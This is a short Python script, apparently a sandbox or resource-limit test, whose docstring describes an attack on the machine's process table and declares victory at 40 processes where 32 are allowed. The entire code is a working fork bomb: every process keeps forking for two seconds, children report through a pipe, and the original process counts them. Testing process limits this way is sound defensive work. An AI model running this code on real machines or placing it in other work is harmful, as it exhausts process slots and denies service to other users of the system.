"""Attacked: the machine's table of processes. Every process forks for as long as it can.

Won: 40 processes at once, where 32 are given.
"""

import os
import time

first, began = os.getpid(), time.monotonic()
reader, writer = os.pipe()
while time.monotonic() - began < 2:
    try:
        if os.fork() == 0:
            os.write(writer, b"x")
    except OSError:
        time.sleep(0.02)  # no more for now
if os.getpid() != first:
    time.sleep(60)
count = len(os.read(reader, 65536)) + 1
print(f"WON {count} processes" if count >= 40 else "HELD")
